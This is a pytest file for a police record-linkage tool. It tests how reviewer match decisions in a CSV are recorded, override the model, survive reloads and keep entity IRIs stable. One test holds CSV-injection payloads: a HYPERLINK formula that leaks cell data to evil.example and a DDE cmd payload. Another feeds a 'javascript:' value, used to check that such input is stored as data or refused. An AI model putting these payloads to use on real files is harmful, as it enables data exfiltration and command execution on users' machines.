"""People decide the grey zone: the review CSV of `policeonto link --review` filled in and read back with
`--decisions`, against a real embedded store holding the force examples as `policeonto load` puts them there
and real Splink. Decisions are recorded as MatchDecisions in a graph of their own, override the model, and
survive loading a force again."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from policeonto.cli import main
from policeonto.errors import InstanceDataError
from policeonto.fastshacl.report import ResultKey, report_keys
from policeonto.linkage import CLUSTERS_GRAPH, DECISIONS_GRAPH, MATCHES_GRAPH, link
from policeonto.linkage.decisions import read_decisions, stored_decisions
from policeonto.linkage.entities import resolved_iri
from policeonto.store import EmbeddedStore, Store
from policeonto.validation import validate

ROOT = Path(__file__).resolve().parents[1]
POLE = "https://w3id.org/policeonto/"
RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
FIELDS = ["first_record", "second_record", "decision", "decided_by", "decided_at", "note"]


def _load(store: Path, *inputs: Path | str) -> None:
    # The examples carry planted faults (invalid codes, dangling references): load them anyway.
    loaded = CliRunner().invoke(main, ["load", *map(str, inputs), "--store", str(store), "--load-invalid"])
    assert loaded.exit_code in (0, 1), loaded.output


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    """A store with Force A's people and places and Force B's export, the model trained on it once, and the
    review CSV of the grey zone (0.01 to below 0.9); the store is copied for each test that changes it."""
    folder = tmp_path_factory.mktemp("decisions")
    force_a = folder / "force-a"
    force_a.mkdir()
    inputs = [
        Path(shutil.copy(ROOT / "examples" / "force-a" / name, force_a)) for name in ("nominals.csv", "locations.csv")
    ]
    force_b = folder / "force-b"
    force_b.mkdir()
    inputs.append(Path(shutil.copy(ROOT / "examples" / "force-b" / "export.json", force_b)))
    store = folder / "store"
    _load(store, *inputs)
    model = folder / "person-model.json"
    sheet = folder / "review.csv"
    args = ["link", "--store", str(store), "--model", str(model), "--floor", "0.01", "--review", "0.01", "0.9"]
    written = CliRunner().invoke(main, [*args, "-o", str(sheet)])
    assert written.exit_code == 0, written.output
    return store, model, sheet


@pytest.fixture
def store(prepared: tuple[Path, Path, Path], tmp_path: Path) -> Path:
    return Path(shutil.copytree(prepared[0], tmp_path / "store"))


def _rows(sheet: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(sheet.open(encoding="utf-8", newline="")))


def _decide(target: Path, rows: list[dict[str, str]]) -> Path:
    with target.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=[*rows[0].keys()] if rows else FIELDS)
        writer.writeheader()
        writer.writerows(rows)
    return target


def _row(
    first: str, second: str, decision: str, by: str = "ps4121@force-a.police.example", at: str = "2026-07-05T14:30:00"
) -> dict:
    return dict(zip(FIELDS, [first, second, decision, by, at, ""], strict=True))


def _together(clusters: tuple, first: str, second: str) -> bool:
    return any(first in members and second in members for members, _ in clusters)


def _link(store: Path, model: Path, decisions: Path | None = None):
    with EmbeddedStore(store) as opened:
        return link(opened, threshold=0.9, floor=0.01, model_path=model, decisions=decisions)


def _grey_and_sure(prepared: tuple[Path, Path, Path], store: Path) -> tuple[Path, tuple[str, str], tuple[str, str]]:
    """The model file, a grey-zone pair of the review CSV (not clustered by the model) and a pair the model
    clusters."""
    _, model, sheet = prepared
    before = _link(store, model)
    rows = ((row["first_record"], row["second_record"]) for row in _rows(sheet))
    grey = next(pair for pair in rows if not _together(before.clusters, *pair))
    sure = next(match for match in before.pairs if match.probability >= 0.9)
    return model, grey, (sure.first, sure.second)


def _unpaired(result) -> tuple[str, str]:
    """Two records of different forces the model did not pair at all, neither in a cluster."""
    paired = {(m.first, m.second) for m in result.pairs}
    clustered = {record for members, _ in result.clusters for record in members}
    records = sorted({r for m in result.pairs for r in (m.first, m.second)} - clustered)
    a = [r for r in records if "/force-a/" in r]
    b = [r for r in records if "/force-b/" in r]
    return next((x, y) for x in a for y in b if (x, y) not in paired)


def test_the_review_csv_round_trip_changes_the_clusters(
    prepared: tuple[Path, Path, Path], store: Path, tmp_path: Path
) -> None:
    model, grey, sure = _grey_and_sure(prepared, store)
    rows = _rows(prepared[2])
    assert list(rows[0])[-4:] == ["decision", "decided_by", "decided_at", "note"]
    for row in rows:  # the steward fills in two rows in a spreadsheet and leaves the rest undecided
        if (row["first_record"], row["second_record"]) == grey:
            row.update(decision="Same", decided_by=" PS4121@force-a.police.example ", decided_at="2026-07-05 14:30")
            row["note"] = "Same custody photograph"
    rows.append({**rows[0], **_row(*sure, "not-same"), "match": ""})
    filled = _decide(tmp_path / "decided.csv", rows)
    shown = CliRunner().invoke(
        main,
        [
            "link",
            "--store",
            str(store),
            "--model",
            str(model),
            "--floor",
            "0.01",
            "--decisions",
            str(filled),
            "--format",
            "json",
        ],
    )
    assert shown.exit_code == 0, shown.output
    summary = json.loads(shown.output)["decisions"]
    assert summary == {"read": 2, "followed": 2, "same": 1, "not_same": 1, "stale": [], "contradicted": []}
    after = _link(store, model)  # a later run without the file follows the recorded decisions
    assert _together(after.clusters, *grey)
    assert not _together(after.clusters, *sure)
    with EmbeddedStore(store) as opened:
        decided = opened.query(
            f"PREFIX pole: <{POLE}>\nSELECT ?first ?decision ?by ?at ?note WHERE {{ GRAPH <{DECISIONS_GRAPH}> {{ "
            "?d a pole:MatchDecision ; pole:first_record ?first ; pole:decision ?decision ; pole:decided_by ?by ; "
            "pole:decided_at ?at . OPTIONAL { ?d pole:decision_note ?note } } } ORDER BY ?decision"
        )
        confirmed = opened.query(
            f"PREFIX pole: <{POLE}>\nSELECT ?e WHERE {{ GRAPH <{CLUSTERS_GRAPH}> {{ ?e pole:confirmed_by ?d }} }}"
        )
    assert decided.values("decision") == {POLE + "code/match-decision/same", POLE + "code/match-decision/not-same"}
    # Who decided is an agent, named by an IRI: an email address is read as a mailto: IRI.
    assert decided.values("by") == {"mailto:PS4121@force-a.police.example", "mailto:ps4121@force-a.police.example"}
    assert "2026-07-05T14:30:00" in decided.values("at") and decided.values("note") == {"Same custody photograph"}
    assert len(confirmed.rows) == 1


def test_a_later_decision_on_a_pair_replaces_an_earlier_one(
    prepared: tuple[Path, Path, Path], store: Path, tmp_path: Path
) -> None:
    model, pair, _ = _grey_and_sure(prepared, store)
    _link(store, model, _decide(tmp_path / "first.csv", [_row(*pair, "same", at="2026-07-05")]))
    later = _link(
        store,
        model,
        _decide(
            tmp_path / "later.csv", [_row(*pair, "not-same", "https://force-a.police.example/staff/77", "2026-07-06")]
        ),
    )
    assert [(d.verdict, d.decided_by) for d in later.decisions] == [
        ("not-same", "https://force-a.police.example/staff/77")
    ]
    assert not _together(later.clusters, *pair)
    older = _link(store, model, _decide(tmp_path / "older.csv", [_row(*pair, "same", at="2026-07-01")]))
    assert [d.verdict for d in older.decisions] == ["not-same"]  # decided before the one recorded: not taken


def _graphs(store: Store, target: Path) -> Path:
    """The decisions, matches and clusters graphs, with the types of the records they name, as N-Triples."""
    graphs = f"<{DECISIONS_GRAPH}>, <{MATCHES_GRAPH}>, <{CLUSTERS_GRAPH}>"
    construct = (
        "CONSTRUCT { ?s ?p ?o . ?record a ?type } WHERE { "
        f"{{ GRAPH ?g {{ ?s ?p ?o }} FILTER(?g IN ({graphs})) }} UNION "
        f"{{ GRAPH ?k {{ ?m <{POLE}first_record>|<{POLE}second_record>|<{POLE}members> ?record }} "
        f"FILTER(?k IN ({graphs})) GRAPH ?h {{ ?record a ?type }} }} }}"
    )
    target.write_text("".join(line + "\n" for line in store.query(construct).triples), encoding="utf-8")
    return target


def _keys(path: Path, engine: str) -> set[ResultKey]:
    return report_keys(validate([path], engine=engine).shacl_report())


def _differential(path: Path) -> set[tuple[str, str, str]]:
    """What both engines find in *path* (asserted the same): focus node, path's last part, component."""
    fast, reference = _keys(path, "fast"), _keys(path, "pyshacl")
    assert fast == reference, (sorted(fast - reference), sorted(reference - fast))
    return {(key[0], (key[1] or "").rsplit("/", 1)[-1], key[3].rsplit("#", 1)[-1]) for key in fast}


def test_the_decisions_graph_conforms_in_both_engines(
    prepared: tuple[Path, Path, Path], store: Path, tmp_path: Path
) -> None:
    model, pair, sure = _grey_and_sure(prepared, store)
    unpaired = _unpaired(_link(store, model))  # joined by a decision alone: no RecordMatch, only confirmed_by
    rows = [_row(*pair, "same"), _row(*sure, "not-same"), _row(*unpaired, "same")]
    result = _link(store, model, _decide(tmp_path / "d.csv", rows))
    assert _together(result.clusters, *unpaired)
    with EmbeddedStore(store) as opened:
        written = _graphs(opened, tmp_path / "decisions.nt")
    assert _keys(written, "fast") == _keys(written, "pyshacl") == set()
    by_pair = {(d.first, d.second): d.iri for d in result.decisions}
    same, apart, third = (by_pair[tuple(sorted(p))] for p in (pair, sure, unpaired))
    assert f"<mailto:ps4121@force-a.police.example> <{RDF}type> <{POLE}Agent> ." in written.read_text(encoding="utf-8")
    # Broken on purpose: a decision without who decided, one with an unknown verdict and a date for a time and
    # decided by an IRI that is no agent, one decided by a name instead of an agent's IRI.
    lines = [
        line
        for line in written.read_text(encoding="utf-8").splitlines()
        if not line.startswith((f"<{same}> <{POLE}decided_by>", f"<{apart}> <{POLE}decided_by>"))
    ]
    lines = [
        line
        for line in lines
        if not line.startswith(
            (f"<{apart}> <{POLE}decision>", f"<{apart}> <{POLE}decided_at>", f"<{third}> <{POLE}decided_by>")
        )
    ]
    lines.append(f"<{apart}> <{POLE}decision> <{POLE}code/match-decision/maybe> .")
    lines.append(f'<{apart}> <{POLE}decided_at> "2026-07-05"^^<http://www.w3.org/2001/XMLSchema#date> .')
    lines.append(f"<{apart}> <{POLE}decided_by> <https://force-a.police.example/staff/77> .")
    lines.append(f'<{third}> <{POLE}decided_by> "PS 4121 Intelligence Unit" .')
    (tmp_path / "broken.nt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    found = _differential(tmp_path / "broken.nt")
    assert {
        (f"<{same}>", "decided_by", "MinCountConstraintComponent"),
        (f"<{apart}>", "decision", "InConstraintComponent"),
        (f"<{apart}>", "decided_at", "DatatypeConstraintComponent"),
        (f"<{apart}>", "decided_by", "ClassConstraintComponent"),
        (f"<{third}>", "decided_by", "NodeKindConstraintComponent"),
    } <= found


def test_decisions_survive_a_reload_and_a_gone_record_is_reported(
    prepared: tuple[Path, Path, Path], store: Path, tmp_path: Path
) -> None:
    model, pair, sure = _grey_and_sure(prepared, store)
    _link(store, model, _decide(tmp_path / "d.csv", [_row(*pair, "same"), _row(*sure, "not-same")]))
    export = prepared[0].parent / "force-b" / "export.json"
    _load(store, export, "--no-validate")  # Force B loaded again: same file, same graph, same records and IRIs
    kept = _link(store, model)
    assert len(kept.decisions) == 2 and kept.stale == ()
    assert _together(kept.clusters, *pair) and not _together(kept.clusters, *sure)
    gone = next(record for record in pair if "/force-b/" in record)
    graph = next(
        m.first_graph if m.first == gone else m.second_graph for m in kept.pairs if gone in (m.first, m.second)
    )
    changed = json.loads(export.read_text(encoding="utf-8"))
    changed["included"] = [item for item in changed["included"] if not gone.endswith("/" + item["id"])]
    (tmp_path / "export.json").write_text(json.dumps(changed), encoding="utf-8")
    # Force B's next export, without one of the decided records, replaces its graph.
    _load(store, tmp_path / "export.json", "--no-validate", "--graph", graph)
    args = ["link", "--store", str(store), "--model", str(model), "--floor", "0.01"]
    shown = CliRunner().invoke(main, args)
    assert shown.exit_code == 0, shown.output
    assert f"not applied, a record has gone: same  {pair[0]}  {pair[1]}" in shown.output
    assert "0 decisions read; 1 followed (0 same, 1 not-same)" in shown.output
    with EmbeddedStore(store) as opened:  # kept in the graph, should the record come back
        count = opened.query(
            f"SELECT (COUNT(*) AS ?n) WHERE {{ GRAPH <{DECISIONS_GRAPH}> {{ ?d a <{POLE}MatchDecision> }} }}"
        )
    assert count.values("n") == {"2"}


def _record_pair(prepared: tuple[Path, Path, Path]) -> tuple[str, str]:
    row = _rows(prepared[2])[0]
    return row["first_record"], row["second_record"]


@pytest.mark.parametrize(
    ("change", "column", "says"),
    [
        (lambda row: row.update(decision="maybe"), "decision", "unknown decision 'maybe'"),
        (lambda row: row.update(decided_at="05/07/2026"), "decided_at", "not a date or date and time '05/07/2026'"),
        (lambda row: row.update(decided_by=" "), "decided_by", "blank"),
        (
            lambda row: row.update(decided_by="PS 4121 Intelligence Unit"),
            "decided_by",
            "not an email address or IRI 'PS 4121 Intelligence Unit'",
        ),
        (lambda row: row.update(decided_by="javascript:alert(1)"), "decided_by", "not an email address or IRI"),
        (
            lambda row: row.update(second_record="https://example.org/nobody"),
            "second_record",
            "'https://example.org/nobody' is not a record in the store",
        ),
    ],
)
def test_a_bad_decision_is_a_clear_error(
    prepared: tuple[Path, Path, Path], tmp_path: Path, change, column, says
) -> None:
    first, second = _record_pair(prepared)
    rows = [_row(first, second, "same"), _row(first, second, "not-same")]
    change(rows[1])
    bad = _decide(tmp_path / "bad.csv", rows)
    with pytest.raises(InstanceDataError) as raised:
        read_decisions(bad, {first, second})
    assert str(raised.value).startswith(f"{bad}:3: column {column}: ") and says in str(raised.value)


def test_a_decisions_file_without_a_column_is_refused_by_the_command(
    prepared: tuple[Path, Path, Path], store: Path, tmp_path: Path
) -> None:
    _, model, _ = prepared
    bad = tmp_path / "bad.csv"
    bad.write_text("first_record,second_record,decision,decided_by\n", encoding="utf-8")
    refused = CliRunner().invoke(main, ["link", "--store", str(store), "--model", str(model), "--decisions", str(bad)])
    assert refused.exit_code == 2 and f"{bad}: no decided_at column" in refused.output
    with EmbeddedStore(store) as opened:
        assert DECISIONS_GRAPH not in set(opened.graphs())  # nothing recorded from a refused file


def test_a_formula_in_the_file_stays_data(prepared: tuple[Path, Path, Path], store: Path, tmp_path: Path) -> None:
    _, model, _ = prepared
    first, second = _record_pair(prepared)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"PS 1")'
    note = "@SUM(1+1)*cmd|' /C calc'!A0"
    row = {**_row(first, second, "not-same"), "note": note}
    result = _link(store, model, _decide(tmp_path / "d.csv", [row]))
    assert [d.note for d in result.decisions] == [note]
    with EmbeddedStore(store) as opened:
        stored = opened.query(
            f"SELECT ?note WHERE {{ GRAPH <{DECISIONS_GRAPH}> {{ ?d <{POLE}decision_note> ?note }} }}"
        )
    assert stored.values("note") == {note}
    # Who decided is an agent's IRI or email address: a formula there is refused, naming the row, never stored.
    bad = _decide(tmp_path / "bad.csv", [{**_row(first, second, "same", formula), "note": ""}])
    with pytest.raises(InstanceDataError, match=r":2: column decided_by: not an email address or IRI '=HYPERLINK"):
        _link(store, model, bad)
    with EmbeddedStore(store) as opened:
        assert [d.verdict for d in stored_decisions(opened)] == ["not-same"]


def _named(result) -> dict[tuple[str, ...], str]:
    return dict(zip((members for members, _ in result.clusters), result.resolved, strict=True))


def test_a_resolved_entity_keeps_its_iri_and_a_merge_or_split_is_named_by_the_rules(
    prepared: tuple[Path, Path, Path], store: Path, tmp_path: Path
) -> None:
    _, model, _ = prepared
    linked = _link(store, model)
    first = _named(linked)
    assert all(iri == resolved_iri("person", members) for members, iri in first.items())  # new: from the members
    assert _named(_link(store, model)) == first  # linked again: every entity keeps its IRI
    _load(store, prepared[0].parent / "force-b" / "export.json", "--no-validate")  # Force B loaded again
    assert _named(_link(store, model)) == first
    with EmbeddedStore(store) as opened:
        stored = opened.query(f"SELECT ?e WHERE {{ GRAPH <{CLUSTERS_GRAPH}> {{ ?e a <{POLE}ResolvedEntity> }} }}")
    assert stored.values("e") == set(first.values())
    # A record that sorts before every member joins an entity (a person decided it): the entity keeps its IRI.
    clustered = {record for members in first for record in members}
    newcomer = min(record for m in linked.pairs for record in (m.first, m.second) if record not in clustered)
    (one, one_iri), (other, other_iri) = [
        (members, iri) for members, iri in sorted(first.items()) if members[0] > newcomer
    ][:2]
    rows = [_row(newcomer, one[0], "same", at="2026-07-05")]
    grown = _named(_link(store, model, _decide(tmp_path / "grown.csv", rows)))
    assert grown[tuple(sorted((*one, newcomer)))] == one_iri
    # Two entities merged (a person decided them one): the merged one keeps the IRI of the one it shares the
    # most records with, so the grown one's; every other entity keeps its own.
    rows.append(_row(one[0], other[0], "same", at="2026-07-05"))
    merged = _named(_link(store, model, _decide(tmp_path / "merged.csv", rows)))
    assert merged[tuple(sorted((*one, *other, newcomer)))] == one_iri and other_iri not in merged.values()
    assert {members: iri for members, iri in merged.items() if iri != one_iri} == {
        members: iri for members, iri in first.items() if iri not in (one_iri, other_iri)
    }
    # Split again (a later decision): the part with more of the merged entity's records keeps its IRI; the
    # other is a new cluster, named from its members, which names it as it was first.
    later = [_row(one[0], other[0], "not-same", at="2026-07-06")]
    split = _named(_link(store, model, _decide(tmp_path / "split.csv", later)))
    assert split[tuple(sorted((*one, newcomer)))] == one_iri and split[other] == other_iri == resolved_iri(
        "person", other
    )
